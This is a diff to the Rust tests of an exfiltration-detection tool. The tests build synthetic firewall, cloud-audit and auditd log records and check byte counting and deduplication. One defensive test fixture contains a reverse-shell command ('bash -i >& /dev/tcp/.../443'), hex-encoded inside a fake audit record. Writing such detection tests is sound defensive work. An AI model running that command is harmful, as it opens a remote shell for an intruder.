@@ -5,6 +5,7 @@ use exfiltrace::discover::Root;
 use exfiltrace::indicators::Builder;
 use exfiltrace::model::block::CELL_BYTES;
 use exfiltrace::model::scopes::Scopes;
+use exfiltrace::model::time::Instant;
 use exfiltrace::model::transfer::Transfer;
 use exfiltrace::scan;
 use serde_json::json;
@@ -24,6 +25,7 @@ fn logon() -> String {
 fn connections(hours: u32) -> Vec<(&'static str, String)> {
     let (bytes, secs) = (3_u64 << 30, hours * 3600);
     let began = 1_773_180_000 - secs;
+    let start = Instant::from_secs(began.into()).unwrap().to_string();
     vec![
         (
             "fortigate",
@@ -79,6 +81,30 @@ fn connections(hours: u32) -> Vec<(&'static str, String)> {
                  dst=203.0.113.200^dstPort=443^srcBytes={bytes}^dstBytes=4120\n"
             ),
         ),
+        (
+            "watchguard, a proxy",
+            format!(
+                "<142>2026-03-10T22:00:00Z Firebox 80AB01234567A https-proxy[1897]: msg_id=\"2CFF-0000\" Allow 1-Trusted 0-External tcp \
+                 10.2.0.5 203.0.113.200 51234 443 msg=\"HTTPS Request\" proxy_act=\"Out\" sent_bytes=\"{bytes}\" rcvd_bytes=\"4096\" \
+                 elapsed_time=\"{secs}.012 sec(s)\" (HTTPS-00)\n"
+            ),
+        ),
+        (
+            "cisco ftd",
+            format!(
+                "<113>2026-03-10T22:00:00Z ftd1 %FTD-1-430003: DeviceUUID: 1-2, AccessControlRuleAction: Allow, SrcIP: 10.2.0.5, DstIP: \
+                 203.0.113.200, SrcPort: 51234, DstPort: 443, Protocol: tcp, ConnectionDuration: {secs}, InitiatorPackets: 5, \
+                 ResponderPackets: 9, InitiatorBytes: {bytes}, ResponderBytes: 900, NAPPolicy: x\n"
+            ),
+        ),
+        (
+            "a table",
+            format!(
+                "start,end,src_ip,dst_ip,dst_port,bytes_out,bytes_in\n{start},2026-03-10T22:00:00Z,10.2.0.5,203.0.113.200,443,{bytes},900\n"
+            ),
+        ),
+        ("azure", format!("{}\n", azure(began, bytes))),
+        ("ecs, by when it began", format!("{}\n", zeek_in_ecs(&start, bytes, secs))),
         ("ecs", format!("{}\n", ecs(bytes, secs))),
         ("ecs in an export", format!("{}\n", json!({"_index": "flows", "_id": "a1", "_source": ecs(bytes, secs)}))),
         (
@@ -92,6 +118,24 @@ fn connections(hours: u32) -> Vec<(&'static str, String)> {
             ),
         ),
     ]
+}
+
+/// A flow of Azure whose beginning and end stand in one record.
+fn azure(began: u32, bytes: u64) -> serde_json::Value {
+    let tuple = |at: u32, state: &str, moved: u64| {
+        format!("{at}000,10.2.0.5,203.0.113.200,51234,443,6,O,{state},NX,9,{moved},9,{moved}")
+    };
+    let tuples = [tuple(began, "B", 0), tuple(1_773_180_000, "E", bytes)];
+    let flows = json!([{"aclID": "2", "flowGroups": [{"rule": "r", "flowTuples": tuples}]}]);
+    json!({"records": [{"time": "2026-03-10T22:00:00Z", "flowLogVersion": 4, "macAddress": "0", "category": "FlowLogFlowEvent",
+        "operationName": "FlowLogFlowEvent", "flowRecords": {"flows": flows}}]})
+}
+
+/// A connection as Filebeat's module for Zeek writes it, which dates it by when it began.
+fn zeek_in_ecs(start: &str, bytes: u64, secs: u32) -> serde_json::Value {
+    json!({"@timestamp": start, "source": {"ip": "10.2.0.5", "bytes": bytes},
+        "destination": {"ip": "203.0.113.200", "port": 443, "bytes": 900},
+        "event": {"module": "zeek", "dataset": "zeek.connection", "duration": u64::from(secs) * 1_000_000_000}})
 }
 
 /// A connection that was over at ten in the evening in the names of ECS, which counts how long it took in nanoseconds.
@@ -224,10 +268,45 @@ fn records_of_one_number_that_state_no_bytes_count_once() {
 }
 
 #[test]
-fn exports_of_one_time_that_state_no_bytes_are_not_added_up() {
+fn calls_that_overlapping_exports_have_count_once_by_their_numbers() {
     let of = |minutes: std::ops::Range<usize>| minutes.map(mails).collect::<String>();
-    assert_eq!(counted(&[("a.json", &of(0..20)), ("b.json", &of(10..30))]), [40], "in both times some may be the same");
+    assert_eq!(counted(&[("a.json", &of(0..20)), ("b.json", &of(10..30))]), [60], "a third stands in both");
     assert_eq!(counted(&[("a.json", &of(0..20)), ("b.json", &of(20..30))]), [60], "one follows the other");
+    let three = [("a.json", &*of(0..20)), ("b.json", &of(10..30)), ("c.json", &of(5..25))];
+    assert_eq!(counted(&three), [60], "most stand in two or three");
+    // Of numbers that are not there only the times tell.
+    let unnumbered =
+        |text: String| text.lines().map(|line| line.replace("\"Id\":\"i", "\"Ic\":\"i") + "\n").collect::<String>();
+    let [a, b] = [of(0..20), of(10..30)].map(unnumbered);
+    assert_eq!(counted(&[("a.json", &a), ("b.json", &b)]), [40], "in both times some may be the same");
+}
+
+#[test]
+fn calls_of_cloudtrail_google_and_azure_count_once_by_their_numbers() {
+    let trail = |n: usize| {
+        json!({"eventVersion": "1.08", "eventTime": format!("2026-03-10T11:00:{n:02}Z"), "eventSource": "s3.amazonaws.com",
+            "eventName": "GetObject", "awsRegion": "eu-west-2", "sourceIPAddress": "203.0.113.77", "eventID": format!("e-{n}"),
+            "userIdentity": {"type": "IAMUser", "userName": "ann", "accountId": "111122223333"},
+            "requestParameters": {"bucketName": "hc-records", "key": format!("k{n}")}, "userAgent": "aws-cli/2"})
+    };
+    let google = |n: usize| {
+        json!({"insertId": format!("g{n}"), "logName": "projects/hc/logs/cloudaudit.googleapis.com%2Fdata_access",
+            "timestamp": format!("2026-03-10T11:00:{n:02}Z"), "resource": {"labels": {"bucket_name": "hc-records"}},
+            "protoPayload": {"methodName": "storage.objects.get", "serviceName": "storage.googleapis.com",
+                "authenticationInfo": {"principalEmail": "ann@hc.example"}, "requestMetadata": {"callerIp": "203.0.113.77"}}})
+    };
+    let azure = |n: usize| {
+        json!({"time": format!("2026-03-10T11:00:{n:02}Z"), "resourceId": "/x", "category": "StorageRead", "operationName": "GetBlob",
+            "callerIpAddress": "203.0.113.77:4444", "correlationId": format!("c{n}"), "identity": {"type": "OAuth", "tokenHash": "t"},
+            "properties": {"accountName": "hc-store", "objectKey": format!("/hc-store/hr/k{n}")}})
+    };
+    let all: [&dyn Fn(usize) -> serde_json::Value; 3] = [&trail, &google, &azure];
+    for record in all {
+        let of = |numbers: std::ops::Range<usize>| numbers.map(|n| format!("{}\n", record(n))).collect::<String>();
+        assert_eq!(counted(&[("a.json", &of(0..40))]), [40], "{}", record(0));
+        assert_eq!(counted(&[("a.json", &of(0..40).repeat(3))]), [40], "in one file: {}", record(0));
+        assert_eq!(counted(&[("a.json", &of(0..40)), ("b.json", &of(20..60))]), [60], "in two: {}", record(0));
+    }
 }
 
 #[test]
@@ -357,4 +436,118 @@ fn a_mail_and_a_session_that_a_rotation_cut_have_their_size_and_their_owner() {
     let given = line(12, "sftp-server[812]: close \"/home/alice/plans.zip\" bytes read 7000000 written 0");
     let [told] = &of(&opened, &given)[..] else { panic!("one way") };
     assert!(told.starts_with("203.0.113.20 7000000 7000000"), "{told}");
+}
+
+/// What a firewall says of one session from eight in the morning to ten in the evening: records of what it had moved by so many
+/// minutes behind eight, and that of its end.
+fn restated(moved: &[(u32, u64)], whole: Option<u64>) -> [String; 2] {
+    let record = |minute: u32, logid: u32, action: &str, sent: u64| {
+        format!(
+            "date=2026-03-10 time={:02}:{:02}:00 tz=\"+0000\" devname=\"fw\" logid=\"00000000{logid}\" type=\"traffic\" \
+             subtype=\"forward\" srcip=10.2.0.5 srcport=50000 dstip=203.0.113.200 dstport=443 sessionid=7 action=\"{action}\" \
+             duration={} sentbyte={sent} rcvdbyte=900\n",
+            8 + minute / 60,
+            minute % 60,
+            minute * 60
+        )
+    };
+    let open: String = moved.iter().map(|(minute, sent)| record(*minute, 20, "accept", *sent)).collect();
+    [open, whole.map(|sent| record(14 * 60, 13, "close", sent)).unwrap_or_default()]
+}
+
+/// What clauses say of bytes that left behind ten, at least and perhaps.
+fn left(files: &[(&str, String)]) -> (Option<u64>, Option<u64>) {
+    let mut files: Vec<(&str, String)> = files.to_vec();
+    files.push(("hc-events.json", logon()));
+    let told = verdict::scan(&files, SCOPES, "");
+    let bytes = |clause: &str| {
+        let reasons = told.scope("hc")["reasons"].as_array().unwrap().iter();
+        let texts = reasons.filter(|r| r["clause"] == clause).filter_map(|r| r["text"].as_str());
+        texts.filter_map(|text| text.split(' ').find_map(|word| word.parse().ok())).next()
+    };
+    (bytes("J-11"), bytes("J-14"))
+}
+
+#[test]
+fn what_a_session_had_moved_by_then_says_how_much_left_after_the_intrusion() {
+    const GIB: u64 = 1 << 30;
+    // Every twenty minutes, a fourteenth of 3 GiB an hour: by ten past ten what moves in 130 minutes had left.
+    let often: Vec<(u32, u64)> =
+        (0..42).map(|n| 10 + n * 20).map(|minute| (minute, u64::from(minute) * 3 * GIB / 840)).collect();
+    let at_least = 3 * GIB - 130 * 3 * GIB / 840;
+    let [open, end] = restated(&often, Some(3 * GIB));
+    assert_eq!(left(&[("fw.log", open.clone() + &end)]), (Some(at_least), None));
+    assert_eq!(
+        left(&[("fw.log.1", open.clone()), ("fw.log", end.clone())]),
+        (Some(at_least), None),
+        "a rotation lies between"
+    );
+    assert_eq!(left(&[("fw.log", end.clone() + &open)]), (Some(at_least), None), "in any order");
+    let so_far = often[41].1 - 130 * 3 * GIB / 840;
+    assert_eq!(left(&[("fw.log", open)]), (Some(so_far), None), "it goes on");
+    // Of all but a little it is known that it had left before.
+    let [open, end] = restated(&[(119, 3 * GIB - 9_000_000)], Some(3 * GIB));
+    let (sure, perhaps) = left(&[("fw.log", open + &end)]);
+    assert_eq!((sure, perhaps), (None, None), "nine megabytes are no more than talk");
+    // A count that goes down is another session's.
+    let [open, end] = restated(&[(119, 3 * GIB), (130, GIB)], Some(3 * GIB));
+    assert_eq!(left(&[("fw.log", open + &end)]), (None, Some(3 * GIB)));
+}
+
+#[test]
+fn parts_of_a_session_are_the_session_once_however_its_log_is_cut() {
+    let [open, end] = restated(&[(30, 1_000_000), (90, 2_000_000), (190, 9_000_000)], Some(20_000_000));
+    let told = |files: &[(&str, &str)]| {
+        shown(files, |t| (t.bytes.lower, t.bytes.upper, t.records, t.by_end().collect::<Vec<_>>(), t.time))
+    };
+    let whole = told(&[("f.log", &(open.clone() + &end))]);
+    let [(lower, upper, records, hours, _)] = &whole[..] else { panic!("one way") };
+    assert_eq!((*lower, *upper, *records), (20_000_000, Some(20_000_000), 1));
+    assert_eq!(
+        hours.iter().map(|(_, bytes)| *bytes).collect::<Vec<_>>(),
+        [1_000_000, 1_000_000, 7_000_000, 11_000_000]
+    );
+    assert_eq!(told(&[("f.log.1", &open), ("f.log", &end)]), whole);
+    assert_eq!(told(&[("f.log", &(open + &end.repeat(3)))]), whole, "sent on three times");
+}
+
+#[test]
+fn the_address_that_a_reverse_shell_calls_is_the_intruders_from_when_it_was_opened() {
+    let told = |to: &str| {
+        // The shell is told of at five past, a second after its connection was opened.
+        let command: String =
+            format!("bash -i >& /dev/tcp/{to}/443 0>&1").bytes().map(|byte| format!("{byte:02X}")).collect();
+        let audit = |rest: &str| format!("node=hc-fs01 type={rest}\n");
+        let of = "msg=audit(1773136805.120:5012):";
+        let shell = audit(&format!(
+            "SYSCALL {of} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=33 uid=33 comm=\"bash\" exe=\"/bin/bash\""
+        )) + &audit(&format!("EXECVE {of} argc=3 a0=\"bash\" a1=\"-c\" a2={command}"));
+        let log = "date=2026-03-10 time=12:00:00 tz=\"+0000\" devname=\"fw\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" \
+                   srcip=10.2.0.5 srcport=50007 dstip=203.0.113.9 dstport=443 sessionid=9 action=\"close\" duration=7196 \
+                   sentbyte=5368709120 rcvdbyte=900\n";
+        let told = verdict::scan(&[("fw.log", log.to_owned()), ("hc-audit.log", shell)], SCOPES, "");
+        let scope = told.scope("hc");
+        (scope["state"].clone(), cites(scope, "J-14"))
+    };
+    assert_eq!(told("203.0.113.9"), ("exfiltrated".into(), false));
+    assert_eq!(told("203.0.113.8").1, true, "another one's");
+}
+
+#[test]
+fn what_a_request_to_a_store_of_azure_was_let_in_by_is_its_account() {
+    let record = |identity: serde_json::Value| {
+        let told = json!({"time": "2026-03-10T11:00:00Z", "resourceId": "/x", "category": "StorageRead", "operationName": "GetBlob",
+            "statusCode": 200, "callerIpAddress": "203.0.113.77:4444", "identity": identity,
+            "properties": {"accountName": "hc-store", "objectKey": "/hc-store/hr/x.csv", "responseBodySize": 2_000_000}});
+        format!("{told}\n")
+    };
+    let accounts = |identity| shown(&[("blob.json", &record(identity))], |t| t.accounts.to_vec());
+    assert_eq!(
+        accounts(json!({"type": "SAS", "tokenHash": "key1(AB12),SasSignature(CD34)"})),
+        [["key1(AB12),SasSignature(CD34)"]]
+    );
+    let user = json!({"type": "OAuth", "tokenHash": "EF56", "requester": {"upn": "ann@hc.example"}});
+    assert_eq!(accounts(user), [["hc.example\\ann"]]);
+    assert_eq!(accounts(json!({"type": "OAuth", "tokenHash": "EF56"})), [["EF56"]], "a program's");
+    assert_eq!(accounts(json!({"type": "Anonymous"})), [[""; 0]], "open to all");
 }
